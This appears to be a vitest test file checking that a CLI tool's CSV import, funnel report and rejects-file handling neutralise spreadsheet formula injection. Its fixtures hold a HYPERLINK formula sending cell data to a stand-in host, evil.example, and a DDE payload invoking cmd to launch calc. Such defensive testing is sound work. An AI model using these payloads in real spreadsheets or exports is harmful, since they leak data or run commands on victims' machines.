import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { describeEachBackend } from '../../../test/database.ts'
import { runDbCli } from '../../../test/run-db-cli.ts'

let dir: string
beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'baton-csv-export-'))
})
afterAll(async () => {
  await rm(dir, { recursive: true, force: true })
})

const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'

describeEachBackend('CSV exports neutralise formula injection', (db) => {
  async function imported() {
    const { slug } = await db().workspace()
    const cli = (...argv: string[]) => runDbCli(db(), slug, ...argv)
    const csv = path.join(dir, `leads-${slug}.csv`)
    await writeFile(
      csv,
      [
        'email,source,stage,captured,phone',
        `ana@acme.com,"${hostile.replace(/"/g, '""')}",mql,2024-01-10,+44 20 7946 0958`,
        `"@SUM(1+1)*cmd|' /C calc'!A0",webinar,mql,2024-01-11,-12`,
        '',
      ].join('\n'),
    )
    const map = path.join(dir, `map-${slug}.json`)
    await writeFile(
      map,
      JSON.stringify({
        name: 'hostile',
        entity: 'leads',
        fields: { email: 'email', source: 'source', stage: 'stage', occurredAt: 'captured' },
      }),
    )
    const run = await cli('import', 'leads', csv, '--map', map, '--json')
    expect(run.code, run.err).toBe(0)
    return { cli, csv, map }
  }

  it('quotes hostile cells in the rejects file, and a fixed rejects file reads back as it was', async () => {
    const { cli, csv } = await imported()
    // Hygiene turns a hostile source into a plain label before it can reach a report.
    const report = await cli('report', 'funnel', '--csv', '--by', 'source', '--from', '2024-01-01')
    expect(report.out).toContain('hyperlink http evil example a1 click,mql,sql,1,0,0,')
    const rejects = await readFile(`${csv}.rejects.csv`, 'utf8')
    expect(rejects.split('\n')[1]).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,`)
    expect(rejects.split('\n')[1]).toMatch(/,webinar,mql,2024-01-11,-12$/)
    const map = path.join(dir, 'rejects-map.json')
    await writeFile(
      map,
      JSON.stringify({ name: 'rejects', entity: 'leads', fields: { email: 'email' } }),
    )
    const again = await cli('import', 'leads', `${csv}.rejects.csv`, '--map', map, '--json')
    expect(again.code, again.err).toBe(0)
    const rereject = await readFile(`${csv}.rejects.csv.rejects.csv`, 'utf8')
    expect(rereject).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,`)
    expect(rereject).not.toContain(`''@SUM`)
  })
})
